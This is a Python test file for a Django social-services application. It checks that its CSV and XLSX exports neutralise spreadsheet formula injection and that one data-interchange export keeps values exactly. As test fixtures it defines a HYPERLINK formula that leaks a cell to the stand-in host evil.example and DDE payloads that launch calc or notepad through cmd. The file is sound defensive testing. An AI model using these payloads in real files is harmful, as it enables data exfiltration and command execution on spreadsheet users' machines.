"""Every CSV and XLSX export, run for real on records whose names a spreadsheet would run as formulas: a
service renamed ``=HYPERLINK("http://evil.example/?leak="&A1,"SAD")``, a Comune, the Ambito, an intervention,
an objective and a report narrative starting with ``+``, ``-``, ``@``. The files are opened as a user would
(csv module, openpyxl): no cell starts with a formula character unneutralised, openpyxl sees no formula, the
hostile text is there (with its ``'``), and every download carries the same headers. The HSDS data package is
the one exception by design: data interchange, its values come back exactly."""

import csv
import datetime as dt
import io
import re
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from ambito.core.models import JobStatus
from ambito.monitoring.tests import factories

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"SAD")'
EVIL_COMUNE = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_AMBITO = "+39 02 1234 5678"
EVIL_TEXT = "-2+3+cmd|' /C notepad'!A1"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")


def _unsafe(value) -> bool:
    """A text cell a spreadsheet would run: it starts with a formula character and is not a plain number."""
    return isinstance(value, str) and value[:1] in FORMULA_START and not PLAIN_NUMBER.fullmatch(value)


def _csv_cells(text: str, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def _xlsx_cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))  # not read-only: the data type of every cell is there
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells), "openpyxl sees a formula"
    return [cell.value for cell in cells]


def _check(values, *hostile):
    assert not [v for v in values if _unsafe(v)], "a cell a spreadsheet would run as a formula"
    for text in hostile:
        assert any(isinstance(v, str) and v.startswith("'" + text) for v in values), f"{text!r} is missing"


@pytest.fixture
def hostile(db):
    from ambito.monitoring.models import ReportNarrative
    from ambito.territory.models import Ambito

    world = factories.world()
    Ambito.objects.filter(pk=world.ambito.pk).update(name=EVIL_AMBITO)
    world.ambito.refresh_from_db()
    world.comuni["a"].name = EVIL_COMUNE
    world.comuni["a"].save()
    svc = factories.service(world, "sad", service_type="sad", fee="income_based")
    svc.name = EVIL
    svc.save()
    for days in (10, 20, 30, 40, 100):
        factories.admitted(world, svc, days=days)
    ref = factories.referral(world, svc, answered_after_days=1)
    factories.delivery(world, ref, on=dt.date(2025, 2, 1), amount=Decimal("200.00"))
    ReportNarrative.objects.create(ambito=world.ambito, year=2025, introduction=EVIL_TEXT,
                                   critical_issues=EVIL)
    return world


def _job_file(client, user, start, run_jobs, capture):
    """Start the export as the user, run it with the real worker, download it through the job page."""
    with capture(execute=True):
        job = start()
    run_jobs()
    job.refresh_from_db()
    assert job.status == JobStatus.DONE, job.message
    client.force_login(user)
    response = client.get(f"/lavori/{job.pk}/scarica/")
    assert response.status_code == 200
    assert response["Cache-Control"] == "no-store"
    assert response["Content-Disposition"] == f'attachment; filename="{job.result_name}"'
    return job.result_name, b"".join(response.streaming_content)


def test_every_export_neutralises_cells_a_spreadsheet_would_run(hostile, client, run_jobs,
                                                                django_capture_on_commit_callbacks):
    from ambito.monitoring import services as monitoring
    from ambito.network.taxonomy import Area
    from ambito.planning import services as planning
    from ambito.planning.api import start_document

    planner, observer = hostile.users["t.planner"], hostile.users["t.observer"]
    exported = []

    def job(user, start):
        return _job_file(client, user, start, run_jobs, django_capture_on_commit_callbacks)

    # SIUSS flows are XML validated against the INPS schema (monitoring/siuss), not spreadsheets: no cell to run.

    # Indicator CSVs behind the dashboard's charts, by service and by Comune.
    client.force_login(planner)
    for code, by, hostile_text in (("waiting_days_median", "service", EVIL), ("residents", "comune", EVIL_COMUNE)):
        response = client.get(f"/monitoraggio/indicatori/{code}.csv?dal=2025-01-01&al=2025-12-31&by={by}")
        assert response.status_code == 200 and response["Cache-Control"] == "no-store"
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"] == f'attachment; filename="{code}_2025-01-01_2025-12-31.csv"'
        _check(_csv_cells(response.content.decode(), ","), hostile_text)
        exported.append(code)

    # Open data: the CSV inside the zip (the territory names of the Ambito and of each Comune).
    name, data = job(observer, lambda: monitoring.open_data_export_start(actor=observer, ambito=hostile.ambito,
                                                                        year=2025, fmt="csv"))
    archive = zipfile.ZipFile(io.BytesIO(data))
    member = next(n for n in archive.namelist() if n.endswith(".csv"))
    _check(_csv_cells(archive.read(member).decode(), ","), EVIL_AMBITO, EVIL_COMUNE)
    exported.append(name)

    # The annual monitoring report as XLSX: every sheet (the Ambito's name, the narrative).
    name, data = job(planner, lambda: monitoring.report_start(actor=planner, ambito=hostile.ambito, year=2025,
                                                             fmt="xlsx"))
    _check(_xlsx_cells(data), EVIL_AMBITO, EVIL_TEXT, EVIL)
    exported.append(name)

    # The budget of the Piano di Zona as XLSX: every sheet (one per year), the intervention's title.
    plan = planning.plan_create(actor=planner, ambito=hostile.ambito, title="Piano", start_year=2025)
    objective = planning.objective_save(actor=planner, plan=plan, code="OB1", title=EVIL_TEXT)
    intervention = planning.intervention_create(actor=planner, plan=plan, code="I01", title=EVIL, objective=objective,
                                                area=Area.ELDERLY, start_date=dt.date(2025, 1, 1),
                                                end_date=dt.date(2027, 12, 31))
    planning.budget_row_set(actor=planner, intervention=intervention, year=2026, amounts={"fnps": "1000"})
    plan.refresh_from_db()
    name, data = job(planner, lambda: start_document(actor=planner, plan=plan, kind="xlsx"))
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["2025", "2026", "2027"]
    for sheet in book.worksheets:
        assert ("'" + EVIL) in [cell.value for row in sheet.iter_rows() for cell in row]
    _check(_xlsx_cells(data), EVIL)
    # ... and the file still imports: the neutralised title is not read back, amounts and codes are.
    assert planning.budget_import(actor=planner, plan=plan, data=data) == {"years": [2025, 2026, 2027], "lines": 1}
    exported.append(name)

    assert len(exported) == 5


def test_the_hsds_data_package_keeps_its_values_exactly(hostile):
    """Not a spreadsheet download: Open Referral data interchange, read back by programs. A ``'`` would change
    the value on every round trip (a phone number ``+39 …``), so the package is written without it."""
    from ambito.network.hsds import export_documents, export_tables

    files = export_tables(export_documents())
    assert EVIL in _csv_cells(files["services.csv"], ",")
